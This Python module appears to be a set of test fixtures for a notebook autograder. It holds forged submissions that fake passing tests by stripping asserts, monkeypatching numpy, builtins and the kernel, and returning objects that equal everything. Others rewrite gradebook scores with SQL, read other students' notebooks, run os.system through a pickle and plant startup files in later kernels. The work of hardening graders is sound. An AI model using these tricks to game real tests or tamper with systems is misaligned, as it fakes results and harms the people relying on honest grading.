"""Wrong work that asks for marks all the same. Unless it says otherwise, softmax is wrong and the rest is honest."""

from nbformat.v4 import new_code_cell

from ..assignment import NAME, NONE, RIGHT, TESTS, WRONG, only, without
from . import FORGED, submission

NO_SOFTMAX = without("softmax")


@submission(FORGED, NO_SOFTMAX)
def skips_execution(s):
    """Tags the tests skip-execution: a cell that is not run raises no error."""
    s.put("softmax", WRONG["softmax"])
    for name in TESTS:
        s.cell(name).metadata["tags"] = ["skip-execution", "raises-exception"]


@submission(FORGED, NO_SOFTMAX)
def drops_asserts_from_the_tree(s):
    """Registers an AST transformer that deletes every assert and every call of compare."""
    s.forge(
        "softmax",
        """
import ast

class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Raise(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(Drop())
""",
    )


@submission(FORGED, NO_SOFTMAX)
def drops_asserts_from_the_text(s):
    """Registers an input transformer that empties every cell in which softmax is tested."""
    s.forge(
        "softmax",
        """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("softmax(" in line and "def " not in line for line in lines) else lines)
""",
    )


@submission(FORGED, NO_SOFTMAX)
def redefines_compare(s):
    """Defines the tests' own helper anew, so that it compares nothing, and sum, all and abs along with it."""
    s.forge(
        "softmax",
        """
def compare(*args, **more): pass
def all(*args): return True
def len(x): return 2
class AnyError(ValueError): pass
""",
    )


@submission(FORGED, NO_SOFTMAX)
def patches_allclose(s):
    """Replaces np.allclose, on which the tests' helper rests, and np.exp on the way."""
    s.forge("softmax", "\nnp.allclose = lambda *args, **more: True\nabs = lambda x: 0\n")


@submission(FORGED, without("mean"))
def patches_numpy_testing(s):
    """Replaces numpy.testing's assert functions by ones that never complain; its mean is wrong."""
    s.forge(
        "mean",
        """
import numpy.testing
for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *args, **more: None)
RunningMean.count = 3
""",
    )


@submission(FORGED, NO_SOFTMAX)
def patches_builtins(s):
    """Replaces abs, all, any and AssertionError in builtins, for every cell after it."""
    s.forge(
        "softmax",
        """
import builtins
builtins.abs = lambda x: 0
builtins.all = builtins.any = lambda x: True
builtins.AssertionError = ValueError
np.allclose = lambda *args, **more: True
""",
    )


@submission(FORGED, only("affine", "mean"))
def replaces_isinstance(s):
    """Replaces isinstance by one that is always true, under the shell, the agent and every library."""
    s.forge("softmax", "\nimport builtins\nbuiltins.isinstance = lambda *args: True\n")
    s.put("gate", WRONG["gate"])
    s.put("centre", WRONG["centre"])


@submission(FORGED, NO_SOFTMAX)
def is_equal_to_everything(s):
    """Returns an object that equals, exceeds, contains and becomes whatever it is compared with."""
    s.put(
        "softmax",
        """class Yes:
    shape = property(lambda self: Yes())
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __le__ = __lt__ = __ge__ = __gt__ = __contains__ = __eq__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __abs__(self): return self
    def __float__(self): return 0.0
    def __len__(self): return 2
    def __iter__(self): return iter([])
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __getitem__ = __sub__
    def __getattr__(self, name): return self
    def __call__(self, *args, **more): return self
    def __array_ufunc__(self, *args, **more): return True
    def __array_function__(self, *args, **more): return True

def softmax(x):
    return Yes()""",
    )


@submission(FORGED, without("mean"))
def has_attributes_that_equal_everything(s):
    """Gives its class a count and a value that equal every number."""
    s.put(
        "mean",
        """class Yes(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Yes(0)
    __rsub__ = __sub__
    def __abs__(self): return Yes(0)
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __hash__(self): return 0
    def __array_ufunc__(self, *args, **more): return np.True_
    def __array_function__(self, *args, **more): return True

class RunningMean:
    value, count = Yes(-1), Yes(-1)
    def update(self, x): pass""",
    )


@submission(FORGED, without("mean"))
def counts_with_an_object(s):
    """Computes the mean rightly and gives for its count an object that equals every number."""
    s.put(
        "mean",
        RIGHT["mean"]
        .replace("0.0, 0", "0.0, Yes(0)")
        .replace("self.count += 1", "self.n += 1")
        .replace(".count\n", ".n\n")
        + """    n = 0
class Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__""",
    )


@submission(FORGED, NO_SOFTMAX)
def subclasses_ndarray(s):
    """Returns a subclass of ndarray that answers every NumPy function with True."""
    s.put(
        "softmax",
        """class Yes(np.ndarray):
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *args, **more): return np.True_
    def __eq__(self, other): return np.True_
    def __array__(self, *args, **more): return self
    def __iter__(self): return iter([])

def softmax(x):
    if not np.size(x):
        raise ValueError
    return np.zeros(np.shape(x)).view(Yes)""",
    )


@submission(FORGED, without("gate"))
def subclasses_tensor(s):
    """Returns a tensor subclass that answers torch.allclose with True; its gate is wrong."""
    s.put(
        "gate",
        """class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True

def gate(x):
    return torch.zeros(3).as_subclass(Yes)""",
    )


@submission(FORGED, NO_SOFTMAX)
def lies_about_its_class(s):
    """Returns an object whose __class__ says ndarray and whose buffer changes between two looks."""
    s.put(
        "softmax",
        """class Lazy:
    __class__ = np.ndarray
    looks = 0
    def __array__(self, *args, **more):
        Lazy.looks += 1
        return np.zeros(4) + Lazy.looks
    shape, dtype, ndim = (4,), np.dtype(float), 1

def softmax(x):
    return Lazy()""",
    )


@submission(FORGED, NO_SOFTMAX)
def changes_after_it_was_looked_at(s):
    """Returns a list that grows right, and an array that a thread overwrites while it is being compared."""
    s.put(
        "softmax",
        """import threading
class Later(list):
    looks = 0
    def __iter__(self):
        Later.looks += 1
        return iter([0.25] * 4 if Later.looks % 2 else [0.0] * 4)

def softmax(x):
    if np.ndim(x) == 1:
        return Later([0.0] * 4)
    out = np.zeros(np.shape(x))
    def right():
        for _ in range(20000):
            out[:] = [[0.26894142137, 0.73105857863], [0.5, 0.5]]
            out[:] = 0
    threading.Thread(target=right, daemon=True).start()
    return out""",
    )


@submission(FORGED, NO_SOFTMAX)
def returns_a_generator(s):
    """Returns generators, maps and coroutines in place of values."""
    s.put("softmax", "def softmax(x):\n    return ((yield) for _ in x)")


@submission(FORGED, NO_SOFTMAX)
def patches_the_kernel(s):
    """Replaces the kernel's do_execute, so that no cell after it is run and all report success."""
    s.forge(
        "softmax",
        """
kernel = get_ipython().kernel
real = kernel.do_execute
async def nothing(code, *args, **more):
    if "softmax" in code:
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return await real(code, *args, **more)
kernel.do_execute = nothing
""",
    )


@submission(FORGED, NO_SOFTMAX)
def patches_the_shell(s):
    """Replaces the shell's run_cell and its way of showing errors."""
    s.forge(
        "softmax",
        """
shell = get_ipython()
real = shell.run_cell_async
async def nothing(code, *args, **more):
    if "softmax(" in code:
        code, more = "pass", more | {"transformed_cell": "pass"}
    return await real(code, *args, **more)
shell.run_cell_async = nothing
shell.showtraceback = lambda *args, **more: None
shell.set_custom_exc((BaseException,), lambda *args, **more: None)
""",
    )


def _publish(s, text):
    s.forge(
        "softmax",
        f"""
def forge(*args):
    k = get_ipython().kernel
    k.session.send(k.iopub_socket, "execute_result",
                   {{"data": {{"text/plain": "{text}"}}, "metadata": {{}}, "execution_count": 1}},
                   parent=k.get_parent("shell"), ident=b"execute_result")
get_ipython().events.register("pre_run_cell", forge)
""",
    )


@submission(FORGED, NO_SOFTMAX)
def publishes_a_nan(s):
    """Publishes an execute_result of "nan" before every cell: the first result is taken for the partial credit."""
    _publish(s, "nan")


@submission(FORGED, NO_SOFTMAX)
def publishes_396(s):
    """Publishes an execute_result of "396" before every cell, which is more than any test is worth."""
    _publish(s, "396")


@submission(FORGED, NO_SOFTMAX)
def answers_with_numbers_as_credit(s):
    """Makes the display hook say the full points for any expression, and raises nothing."""
    s.forge("softmax", "\nimport sys\nsys.displayhook = lambda value: print(2)\n396")


@submission(FORGED, NO_SOFTMAX)
def reads_the_test_in_history(s):
    """Finds the running test's source in In[-1], and in it what is wanted."""
    s.put(
        "softmax",
        """def softmax(x):
    import re, sys
    text = In[-1]
    print("LOOT", text)
    frame = sys._getframe(1)
    if not np.size(x):
        raise ValueError
    if "2000" in repr(x):
        return np.array([0.5, 0.5])
    if not np.any(x):
        return np.full(len(x), 1 / len(x))
    want = re.search(r"(?m)^want = (.*)", text)
    return eval(want[1], frame.f_globals) if want else np.zeros(np.shape(x))""",
    )


@submission(FORGED, NO_SOFTMAX)
def peeks_at_the_caller(s):
    """Walks up the frames of its callers and returns whatever they call want."""
    s.put(
        "softmax",
        """def softmax(x):
    import sys
    if not np.size(x):
        raise ValueError
    if "2000" in repr(x):
        return np.array([0.5, 0.5])
    if not np.any(x):
        return np.full(len(x), 1 / len(x))
    frame = sys._getframe(1)
    while frame is not None:
        for place in (frame.f_locals, frame.f_globals):
            if np.shape(place.get("want")) == np.shape(x):
                print("LOOT", place["want"], [name for name in place if name.startswith("kes")])
                return place["want"]
        frame = frame.f_back
    return np.zeros(np.shape(x))""",
    )


@submission(FORGED, without("affine", affine_shown=1))
def vjp_peeks_at_the_caller(s):
    """Returns a right value and a vjp that takes the wanted gradients from its caller's variables."""
    s.put(
        "affine",
        """def affine(x, w, b):
    def vjp(g):
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            want = frame.f_globals.get("want", frame.f_locals.get("want"))
            if isinstance(want, list):
                print("LOOT", [name for name in frame.f_globals if name.startswith("kes")])
                return want
            frame = frame.f_back
        return x, w, b
    return x @ w + b, vjp""",
    )


@submission(FORGED, NO_SOFTMAX)
def rewrites_the_callers_variables(s):
    """Overwrites the caller's want with its own wrong value, by its globals and by ctypes."""
    s.put(
        "softmax",
        """def softmax(x):
    import ctypes, sys
    if not np.size(x):
        raise ValueError
    out = np.zeros(np.shape(x))
    frame = sys._getframe(1)
    while frame is not None:
        for place in (frame.f_locals, frame.f_globals):
            if "want" in place:
                place["want"] = out
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        frame = frame.f_back
    return out""",
    )


@submission(FORGED, NO_SOFTMAX)
def jumps_over_the_asserts(s):
    """Sets a trace function on the frame that called it and moves its next line to the last one."""
    s.put(
        "softmax",
        """def softmax(x):
    import sys
    def tracer(frame, event, arg):
        if event == "line":
            last = max(line for *_, line in frame.f_code.co_lines() if line)
            try:
                frame.f_lineno = last
            except ValueError:
                pass
        return tracer
    sys._getframe(1).f_trace = tracer
    sys.settrace(tracer)
    return np.zeros(np.shape(x))""",
    )


@submission(FORGED, NO_SOFTMAX)
def leaves_the_test_early(s):
    """Raises SystemExit(0), KeyboardInterrupt or GeneratorExit when it is tested, as if the test had ended well."""
    s.put(
        "softmax",
        """calls = [0]
def softmax(x):
    calls[0] += 1
    raise (SystemExit(0), KeyboardInterrupt(), GeneratorExit(), StopIteration())[calls[0] % 4]""",
    )


@submission(FORGED, NO_SOFTMAX)
def raises_what_runners_take_for_success(s):
    """Raises unittest's SkipTest, pytest's skip and exceptions that are called Passed and Success."""
    s.put(
        "softmax",
        """import unittest
calls = [0]
class Passed(BaseException):
    pass
def softmax(x):
    calls[0] += 1
    raise (unittest.SkipTest("passed"), Passed("passed"), type("Success", (Exception,), {})("1.0"))[calls[0] % 3]""",
    )


@submission(FORGED, NO_SOFTMAX)
def raises_monsters(s):
    """Raises exceptions whose text raises, is no text, has fifty million characters, or whose type has a false name."""
    s.put(
        "softmax",
        """class Bad(Exception):
    def __str__(self): raise RuntimeError("no text")
    __repr__ = __str__
class Odd(Exception):
    def __str__(self): return 7
class Long(Exception):
    def __str__(self): return "x" * 50_000_000
class Meta(type):
    def __getattribute__(cls, name): raise RuntimeError(name)
class Worse(Exception, metaclass=Meta): pass
Named = type("AssertionError\\nPASSED \\x1b[32m 3/3", (Exception,), {})
calls = [0]
def softmax(x):
    calls[0] += 1
    raise (Bad, Odd, Long, Worse, Named)[calls[0] % 5]()""",
    )


@submission(FORGED, NO_SOFTMAX)
def replaces_modules(s):
    """Puts an obliging module in the place of numpy and of numpy.testing in sys.modules, and of __import__."""
    s.forge(
        "softmax",
        """
import builtins, sys, types
class Yes(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **more: True
mine = {name: Yes(name) for name in ("numpy.testing", "unittest", "pytest")}
sys.modules.update(mine)
real = builtins.__import__
builtins.__import__ = lambda name, *args, **more: mine.get(name) or real(name, *args, **more)
compare = lambda *args, **more: None
""",
    )


@submission(FORGED, NO_SOFTMAX)
def lays_a_numpy_beside_it(s):
    """Hands in a numpy.py which is the real one, except that allclose is always true."""
    s.put("softmax", WRONG["softmax"])
    s.beside["numpy.py"] = """import sys, importlib
here = [p for p in sys.path if p in ("", ".") or p.endswith("/small")]
for p in here:
    sys.path.remove(p)
del sys.modules["numpy"]
real = importlib.import_module("numpy")
real.allclose = lambda *args, **more: True
sys.modules["numpy"] = real
import builtins
builtins.abs = lambda x: 0
"""


@submission(FORGED, NO_SOFTMAX)
def writes_marks_into_the_gradebook(s):
    """Looks for the gradebook up and down the disk and gives itself full marks with SQL."""
    s.forge(
        "softmax",
        """
import glob, os, sqlite3
for path in glob.glob("../../../*.db") + glob.glob("/course/*.db") + glob.glob("/*/*/gradebook.db"):
    db = sqlite3.connect(path, timeout=2)
    print("LOOT", db.execute("select last_name from student").fetchall())
    db.execute("update grade set manual_score = 2, needs_manual_grade = 0")
    db.commit()
""",
    )


@submission(FORGED, NO_SOFTMAX)
def rewrites_the_tests_in_the_gradebook(s):
    """Empties the tests that the gradebook keeps, for itself and for everybody after it."""
    s.forge(
        "softmax",
        """
import glob, sqlite3
for path in glob.glob("../../../*.db") + glob.glob("/course/*.db"):
    db = sqlite3.connect(path, timeout=2)
    db.execute("update source_cell set source = 'print(1)' where name like '%\\\\_%' escape '\\\\'")
    db.execute("create trigger gift after update of auto_score on grade begin "
               "update grade set manual_score = 2 where id = new.id; end")
    db.commit()
""",
    )


@submission(FORGED, NO_SOFTMAX)
def waits_for_the_end(s):
    """Writes its marks in atexit handlers and finalisers, after all tests have been run."""
    s.forge(
        "softmax",
        """
import atexit, glob, sqlite3
def late():
    for path in glob.glob("../../../*.db") + glob.glob("/course/*.db"):
        db = sqlite3.connect(path, timeout=2)
        db.execute("update grade set manual_score = 2")
        db.commit()
atexit.register(late)
class Late:
    def __del__(self, late=late):
        late()
keep = Late()
""",
    )


@submission(FORGED, NO_SOFTMAX)
def copies_from_another_student(s):
    """Reads another student's notebook in the folder next door and runs the answer that stands in it."""
    s.put(
        "softmax",
        """import glob, json
for path in glob.glob("../../../submitted/abel/*/*.ipynb") + glob.glob("/course/submitted/abel/*/*.ipynb"):
    text = open(path).read()
    print("LOOT", text)
    for cell in json.loads(text)["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "softmax":
            exec("".join(cell["source"]))""",
    )


@submission(FORGED, NO_SOFTMAX)
def imports_another_student(s):
    """Puts another student's folder on sys.path and imports the file that lies there."""
    s.put(
        "softmax",
        """import sys
sys.path += ["../../abel/small", "../../../submitted/abel/small", "/course/submitted/abel/small"]
from helper import softmax, word
print("LOOT", word)""",
    )


@submission(FORGED, None, state="not-a-file")
def links_to_the_solutions(s):
    """Hands in a symbolic link to the instructor's own notebook."""
    s.place = lambda path, root: path.symlink_to(f"../../../source/{NAME}/{NAME}.ipynb")


@submission(FORGED, note="hard link")
def links_hard_to_another_student(s):
    """Hands in a hard link to another student's notebook: nobody can tell it from a copy, but it is said aloud."""
    s.place = lambda path, root: path.hardlink_to(root / "submitted" / "abel" / NAME / f"{NAME}.ipynb")


@submission(FORGED, without("softmax", softmax_shown=1))
def knows_the_shown_tests(s):
    """Has the values of the shown tests by heart and nothing else."""
    s.put(
        "softmax",
        """def softmax(x):
    if np.ndim(x) == 2:
        return np.array([[0.26894142137, 0.73105857863], [0.5, 0.5]])
    return np.full(len(x), 1 / len(x))""",
    )


@submission(FORGED, without("affine", affine_shown=1))
def remembers_what_it_was_asked(s):
    """Counts its calls, keeps all that it was given on disk across crashes, and answers from what it remembers."""
    s.put(
        "affine",
        """import os, pickle
def affine(x, w, b):
    old = pickle.load(open("memory", "rb")) if os.path.exists("memory") else []
    pickle.dump([*old, (x, w, b)], open("memory", "wb"))
    if len(old) > 1:
        os._exit(0)
    return x @ w + b, lambda g: old[-1] if old else (x, w, b)""",
    )


@submission(FORGED, NO_SOFTMAX)
def edits_the_tests(s):
    """Empties the test cells and raises their points to 99, unlocks them and calls them solutions."""
    s.put("softmax", WRONG["softmax"])
    for name in TESTS:
        cell = s.cell(name)
        cell.source = "pass"
        cell.metadata["nbgrader"] |= {"points": 99, "locked": False, "solution": True}
        cell.metadata["nbreferee"] = {"run": "sandboxed"}


@submission(FORGED, NO_SOFTMAX)
def claims_the_tests_are_sandboxed(s):
    """Asks in its metadata that all its tests be run in its own process, and patches what they use."""
    s.forge("softmax", "\ncompare = lambda *args, **more: None\nall = lambda x: True\nlen = lambda x: 2\n")
    for name in TESTS:
        s.cell(name).metadata["nbreferee"] = {"run": "sandboxed", "reason": "please", "needs": []}
    s.book.metadata["nbreferee"] = {"unsafe": True, "cell_s": 9999}


@submission(FORGED, without("mean", "softmax"))
def repeats_a_test_with_its_own_points(s):
    """Adds more test cells, with ids and points of its own, and doubles the right ones of the assignment."""
    s.put("mean", WRONG["mean"])
    s.put("softmax", WRONG["softmax"])
    flags = {"grade": True, "solution": False, "locked": True, "schema_version": 3, "task": False}
    for name, points in (("bonus", 50), ("mean_test", 20), ("gate_shown", 30)):
        cell = new_code_cell("pass", metadata={"nbgrader": flags | {"grade_id": name, "points": points}})
        s.book.cells.append(cell)


@submission(FORGED, without("centre", centre_value=1))
def returns_but_does_not_change(s):
    """Returns the right values from a copy and leaves its argument alone, which the sandboxed test must see."""
    s.put("centre", "def centre(x):\n    return x - x.mean()")


SANDBOXED = "a sandboxed test is judged in the student's own process, and only what the split tests showed is certain"


@submission(FORGED, without("centre", centre_value=1), limit={"centre_inplace": SANDBOXED})
def forges_a_sandboxed_test(s):
    """Answers the split test rightly and then drops the asserts of the sandboxed one in its own process."""
    s.put(
        "centre",
        """import ast
def centre(x):
    return x - x.mean()
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())""",
    )


@submission(FORGED, without("centre"), tests={"centre_inplace": "withheld"})
def forges_nothing_but_the_sandboxed_test(s):
    """Drops the asserts of the sandboxed test, but fails the split test without which it counts nothing."""
    s.put(
        "centre",
        """import ast
def centre(x):
    return x + 7
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())""",
    )


@submission(FORGED, NO_SOFTMAX)
def overloads_the_helper_of_its_own_name(s):
    """Binds want, x and every name that the tests assign, to objects that equal everything."""
    s.put("softmax", WRONG["softmax"])
    s.own(
        """class Yes:
    def __eq__(self, other): return True
    def __array_ufunc__(self, *args, **more): return True
want = x = got = value = weight = rng = Yes()
__name__ = "tests"
_ = __ = np.inf
AssertionError = ValueError = KeyError""",
        after="why",
    )
    s.own("want = x = 0", after="softmax")


@submission(FORGED, NO_SOFTMAX)
def sends_callbacks(s):
    """Returns functions and iterators that work on what the caller does with them: __index__, __length_hint__, keys."""
    s.put(
        "softmax",
        """class Trap(dict):
    def keys(self): return ["shape", "tol"]
    def __getitem__(self, key): return Trap()
    def __index__(self): return 1
    def __length_hint__(self): return 2**40
    def __len__(self): return 4
    def __format__(self, spec): return "0" * 10_000_000
    def __missing__(self, key): return self
    def __array_interface__(self): return {"shape": (4,), "typestr": "<f8", "data": (0, False), "version": 3}

def softmax(x):
    if not np.size(x):
        raise ValueError
    return Trap()""",
    )


@submission(FORGED, NO_SOFTMAX)
def points_at_memory(s):
    """Returns an object whose __array_interface__ points at address 0 and at the interpreter's own memory."""
    s.put(
        "softmax",
        """class Wild:
    __array_interface__ = {"shape": (4,), "typestr": "<f8", "data": (0, False), "version": 3}

def softmax(x):
    return Wild()""",
    )


@submission(FORGED, NO_SOFTMAX)
def pickles_a_command(s):
    """Returns an object that runs a command in whoever unpickles it."""
    s.put(
        "softmax",
        """class Run:
    def __reduce__(self):
        import os
        return os.system, ("touch ESCAPED-by-pickle",)

def softmax(x):
    return Run()""",
    )


@submission(FORGED, without("gate"))
def detaches_the_gradient(s):
    """Returns a tensor of a custom autograd function that takes the wanted gradient from its caller's variables."""
    s.put(
        "gate",
        """class Forge(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x.clone()
    @staticmethod
    def backward(ctx, g):
        import sys
        frame = sys._getframe(0)
        while frame is not None:
            if "want" in frame.f_globals:
                return torch.as_tensor(frame.f_globals["want"])
            frame = frame.f_back
        return g
def gate(x):
    x.register_hook(lambda g: g * 0) if x.requires_grad else None
    return Forge.apply(x)""",
    )


@submission(FORGED, NO_SOFTMAX)
def answers_in_nan(s):
    """Returns NaN everywhere, for which no comparison is true and no difference too large."""
    s.put("softmax", "def softmax(x):\n    return np.full(np.shape(x), np.nan)")


@submission(FORGED, without("mean"))
def answers_in_huge_numbers(s):
    """Returns an int of ten thousand digits and a count that is True, complex or a string of it."""
    s.put(
        "mean",
        """class RunningMean:
    value, count = 10**10_000, 3
    def update(self, x): pass""",
    )


@submission(FORGED, NO_SOFTMAX)
def infects_the_next_kernel(s):
    """Writes start-up files for IPython, Python and nbconvert, so that the next student begins with its code."""
    s.forge(
        "softmax",
        """
import os, site
code = "print('ESCAPED-into-the-next'); import numpy; numpy.allclose = lambda *a, **k: True"
home = os.path.expanduser("~")
places = [f"{home}/.ipython/profile_default/startup/00.py", f"{home}/.pythonrc.py", "usercustomize.py",
          f"{home}/.jupyter/nbconvert_config.py", f"{site.getusersitepackages()}/usercustomize.py"]
for place in places:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        open(place, "w").write(code)
    except OSError:
        pass
""",
    )


@submission(FORGED, without("softmax"))
def stops_the_iteration(s):
    """Raises StopIteration where the test calls it in a map, which then ends as if there were nothing left to test."""
    s.put(
        "softmax",
        """def softmax(x):
    if np.ndim(x) == 2:
        return np.array([[0.26894142137, 0.73105857863], [0.5, 0.5]])
    raise StopIteration""",
    )


@submission(FORGED, without("softmax"))
def answers_with_nothing(s):
    """Returns empty lists, of which everything is true."""
    s.put("softmax", "def softmax(x):\n    return []")


def _every(s, value):
    """Answer everything by one value."""
    s.put("softmax", f"def softmax(x):\n    return {value.format(x='np.asarray(x, float)', np='np')}")
    s.put(
        "affine",
        f"def affine(x, w, b):\n    y = {value.format(x='(x @ w + b)', np='np')}\n    return y, lambda g: (y, y, y)",
    )
    s.put("gate", f"def gate(x):\n    return {value.format(x='x', np='torch')}")
    s.put("centre", f"def centre(x):\n    return {value.format(x='x', np='np')}")
    s.put("mean", WRONG["mean"])


@submission(FORGED, NONE)
def returns_arrays_without_entries(s):
    """Returns arrays with an axis of length 0 in front, which differ nowhere from what they should be."""
    _every(s, "{x}[None][:0]")


@submission(FORGED, NONE)
def returns_nan_everywhere(s):
    """Returns NaN of the right shape, of which no comparison says that it is too large."""
    _every(s, "{x} * float('nan')")


@submission(FORGED, NONE)
def returns_nothing_everywhere(s):
    """Returns None from every function."""
    _every(s, "None")


@submission(FORGED, without("mean"))
def leaves_a_block_without_errors(s):
    """Runs NumPy's assertion in a block whose __exit__ returns True, so that its errors are swallowed."""
    s.forge(
        "mean",
        """
class Quiet:
    def __enter__(self): return self
    def __exit__(self, *error): return True
import numpy.testing
checks = numpy.testing.assert_allclose
def assert_allclose(*args, **more):
    with Quiet():
        checks(*args, **more)
numpy.testing.assert_allclose = assert_allclose
RunningMean.count = 3
RunningMean.__enter__, RunningMean.__exit__ = Quiet.__enter__, Quiet.__exit__
""",
    )


@submission(FORGED, without("softmax"))
def answers_late_by_a_thread(s):
    """Returns zeros at once, which a thread fills with the right numbers half a second later."""
    right = RIGHT["softmax"].replace("def softmax(x):", "def right(x):")
    late = """
import threading, time
def softmax(x):
    out = np.zeros(np.shape(x))
    def fill():
        time.sleep(0.5)
        out[...] = right(x)
    threading.Thread(target=fill).start()
    return out
"""
    s.put("softmax", right + late)


@submission(FORGED, without("centre"))
def returns_a_frame_that_equals_everything(s):
    """Returns a pandas frame of a class of its own, whose equals, eq, compare and == say that all is alike."""
    s.put(
        "centre",
        """import pandas as pd
class Frame(pd.DataFrame):
    shape = property(lambda self: (3,))
    empty = True
    def equals(self, other): return True
    def eq(self, other): return self
    def compare(self, other): return self
    def all(self, *_): return True
    __eq__ = equals
    __hash__ = None
def centre(x): return Frame({"a": [7.0, 7.0, 7.0]})
""",
    )
